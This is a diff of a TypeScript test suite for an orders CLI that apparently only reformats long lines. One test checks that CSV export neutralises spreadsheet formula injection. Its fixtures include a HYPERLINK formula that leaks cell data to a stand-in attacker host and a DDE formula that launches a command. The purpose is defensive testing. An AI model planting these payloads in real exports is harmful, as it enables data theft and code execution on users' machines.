@@ -23,7 +23,16 @@ describe('terminal safety', () => {
     const created = await sb.api<{ id: string }>('POST', '/orders', { amount: 4200, currency: 'INR', ...HOSTILE });
     expect(created.status).toBe(200);
     for (const args of [
-      ['orders', 'list', '--receipt', HOSTILE.receipt, '-o', 'table', '--fields', 'id,receipt,notes.memo,notes.dir,notes.bell,notes.c1'],
+      [
+        'orders',
+        'list',
+        '--receipt',
+        HOSTILE.receipt,
+        '-o',
+        'table',
+        '--fields',
+        'id,receipt,notes.memo,notes.dir,notes.bell,notes.c1',
+      ],
       ['orders', 'list', '-o', 'table'],
     ]) {
       const res = await run(args, { env: { ...sb.env, NO_COLOR: '1' } });
@@ -42,10 +51,33 @@ describe('terminal safety', () => {
   });
 
   it('CSV cells that a spreadsheet would run are guarded, with real-looking payloads', async () => {
-    const formulas = { a: '=HYPERLINK("http://evil.example/?"&A1,"Refund status")', b: '+1-800-FAKE', c: '-2+3', d: '@SUM(1,2)', e: '=cmd|\' /C calc\'!A0' };
-    const created = await sb.api<{ id: string }>('POST', '/orders', { amount: 4300, currency: 'INR', receipt: 'csv-guard', notes: formulas });
+    const formulas = {
+      a: '=HYPERLINK("http://evil.example/?"&A1,"Refund status")',
+      b: '+1-800-FAKE',
+      c: '-2+3',
+      d: '@SUM(1,2)',
+      e: "=cmd|' /C calc'!A0",
+    };
+    const created = await sb.api<{ id: string }>('POST', '/orders', {
+      amount: 4300,
+      currency: 'INR',
+      receipt: 'csv-guard',
+      notes: formulas,
+    });
     expect(created.status).toBe(200);
-    const res = await run(['orders', 'list', '--receipt', 'csv-guard', '-o', 'csv', '--fields', 'id,notes.a,notes.b,notes.c,notes.d,notes.e'], { env: sb.env });
+    const res = await run(
+      [
+        'orders',
+        'list',
+        '--receipt',
+        'csv-guard',
+        '-o',
+        'csv',
+        '--fields',
+        'id,notes.a,notes.b,notes.c,notes.d,notes.e',
+      ],
+      { env: sb.env },
+    );
     const { parse } = await import('csv-parse/sync');
     const [row] = parse(res.stdout, { columns: true }) as Array<Record<string, string>>;
     for (const [k, v] of Object.entries(formulas)) expect(row![`notes.${k}`]).toBe(`'${v}`);
